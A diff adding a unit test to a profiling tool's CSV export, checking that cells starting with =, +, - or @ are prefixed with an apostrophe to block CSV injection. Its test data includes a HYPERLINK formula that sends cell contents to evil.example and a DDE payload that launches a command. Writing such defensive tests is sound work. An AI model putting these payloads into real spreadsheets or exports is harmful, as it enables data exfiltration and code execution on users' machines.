@@ -251,3 +251,21 @@ def test_a_missing_value_is_an_empty_cell_not_a_tag():
     html = E.html_report("t", [E.ReportSection("steps", tables=[("steps", df)])], environment={"torch": "2.13.0+cpu"})
     assert "<NA>" not in html and "&lt;NA&gt;" not in html and "None" not in html
     assert "<h2>Where this report was written</h2>" in html and "<h2>Environment</h2>" not in html
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text():
+    """Kernel and run names come from traces and users: one beginning with = + - @ is a formula to a spreadsheet
+    (CSV injection). Such a cell gets a leading ' (shown as text); numbers with units and plain text stay as they
+    are."""
+    import csv
+    import io
+
+    import pandas as pd
+    from profiling_core.present.export import dataframe_csv
+    df = pd.DataFrame({"run": ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1)",
+                               "-x", "plain"],
+                       "size": ["-1.5 KiB", "+3%", "-12", "1,024", "x"], "us": [1.0, 2.0, 3.0, 4.0, 5.0]})
+    rows = list(csv.reader(io.StringIO(dataframe_csv(df).decode())))
+    assert [r[0] for r in rows[1:]] == ["'" + v for v in df["run"][:4]] + ["plain"]
+    assert [r[1] for r in rows[1:]] == list(df["size"]) and [r[2] for r in rows[1:]] == ["1.0", "2.0", "3.0", "4.0",
+                                                                                         "5.0"]
